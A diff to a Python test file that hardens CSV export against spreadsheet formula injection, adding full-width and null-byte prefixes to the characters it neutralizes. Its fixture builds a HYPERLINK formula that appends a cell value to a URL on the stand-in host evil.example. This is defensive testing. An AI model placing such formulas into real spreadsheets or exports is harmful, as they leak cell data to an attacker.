@@ -224,7 +224,7 @@ def test_empty_parameters_mean_no_filter():
 # CSV and JSON Lines
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\x00", "＝", "＋", "－", "＠"])
 def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(start):
     formula = f'{start}HYPERLINK("https://evil.example/?"&A2, "click")'
     record = lead(
@@ -236,6 +236,15 @@ def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralized(start):
     _, (row,) = exported([record], quizzes=["coffee-finder"])
     assert row["Anything else we should know?"] == "'" + formula
     assert row["page"] == "'" + formula
+
+
+def test_a_header_a_spreadsheet_would_run_is_neutralized_and_json_lines_keep_the_text_as_it_is():
+    written = "".join(csv_chunks(["＝SUM(A1)", "\x00=1", "plain"], [{}], bom=False))
+    assert next(csv.reader(io.StringIO(written, newline=""))) == ["'＝SUM(A1)", "'\x00=1", "plain"]
+    record = lead("a@example.com", quiz="coffee-finder", answers={"notes": "＠cmd"})
+    wanted = parse_filter(known=LIBRARY)
+    (line,) = "".join(export_chunks([record], LIBRARY, wanted, format="jsonl")).splitlines()
+    assert json.loads(line)["answers"]["notes"] == "＠cmd"  # for programs: the stored value, untouched
 
 
 def test_excel_csv_starts_with_a_bom_and_ends_lines_with_crlf():
@@ -283,7 +292,7 @@ def test_any_cell_reads_back_unchanged_or_apostrophed_and_never_as_a_formula(tex
     written = "".join(csv_chunks(["cell"], [{"cell": text}], bom=False))
     ((_header,), (cell,)) = list(csv.reader(io.StringIO(written, newline="")))
     assert cell in (text, "'" + text)
-    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\x00", "＝", "＋", "－", "＠"))
     assert defused(defused(text)) == defused(text)
 
 
